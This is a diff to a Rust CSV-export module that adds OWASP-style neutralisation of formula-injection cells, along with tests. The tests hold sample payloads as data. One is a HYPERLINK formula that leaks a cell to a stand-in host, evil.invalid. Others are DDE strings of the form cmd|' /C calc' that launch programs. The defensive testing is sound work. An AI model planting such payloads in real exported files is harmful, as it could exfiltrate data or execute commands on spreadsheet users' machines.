@@ -1,6 +1,11 @@
 //! What the export buttons write: the quotes as CSV (RFC 4180: fields with commas, quotes or
 //! line breaks in double quotes, inner quotes doubled, CRLF between records) and a quote with
 //! its attribution for the clipboard.
+//!
+//! The words in a CSV come from untrusted documents, and a spreadsheet runs a cell that starts
+//! like a formula. OWASP's rule for CSV injection is applied: a field starting with `=`, `+`,
+//! `-`, `@`, a tab or a carriage return gets a leading `'` (shown by spreadsheets as text, not
+//! run) and is written in double quotes.
 
 use super::corpus::Corpus;
 use crate::{DocumentReport, Quote, QuoteKind};
@@ -9,9 +14,14 @@ pub const CSV_HEADER: [&str; 7] = [
     "headline", "date", "speaker", "role", "kind", "quote", "cue",
 ];
 
-/// One CSV field, quoted when it has to be.
+/// First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One CSV field, quoted when it has to be, and neutralised when it could run as a formula.
 pub fn csv_field(value: &str) -> String {
-    if value.contains([',', '"', '\r', '\n']) {
+    if value.starts_with(FORMULA_STARTS) {
+        format!("\"'{}\"", value.replace('"', "\"\""))
+    } else if value.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
         value.to_string()
@@ -149,6 +159,47 @@ mod tests {
         let text = csv([vec!["a", "b,c"], vec!["\"", "x\r\ny"]]);
         assert_eq!(text, "a,\"b,c\"\r\n\"\"\"\",\"x\r\ny\"\r\n");
         assert_eq!(parse(&text), [vec!["a", "b,c"], vec!["\"", "x\r\ny"]]);
+    }
+
+    #[test]
+    fn cells_that_would_run_as_formulas_are_neutralised() {
+        let payloads = [
+            "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        for p in payloads {
+            let field = csv_field(p);
+            assert!(field.starts_with("\"'"), "{p:?} gave {field:?}");
+            assert_eq!(parse(&csv([vec![p]]))[0][0], format!("'{p}"));
+        }
+        // The characters only matter at the start; anywhere else the words stay as written.
+        assert_eq!(csv_field("1 + 1 = 2"), "1 + 1 = 2");
+        assert_eq!(csv_field("e-mail @home"), "e-mail @home");
+        assert_eq!(csv_field(" =1"), " =1");
+    }
+
+    #[test]
+    fn a_quote_made_of_formulas_exports_as_text() {
+        let mut docs = seed_corpus().docs;
+        let doc = std::rc::Rc::make_mut(&mut docs[0]);
+        doc.headline = Some("=cmd|' /C calc'!A0".into());
+        doc.quotes[0].text = "@SUM(A1:A9)".into();
+        let corpus = Corpus::new(docs);
+        let all = visible_quotes(&corpus, &Filters::default());
+        let records = parse(&quotes_csv(&corpus, &all));
+        let row = records
+            .iter()
+            .find(|r| r[5] == "'@SUM(A1:A9)")
+            .expect("the quote, neutralised");
+        assert_eq!(row[0], "'=cmd|' /C calc'!A0");
+        assert!(records
+            .iter()
+            .flatten()
+            .all(|f| !f.starts_with(FORMULA_STARTS)));
     }
 
     #[test]
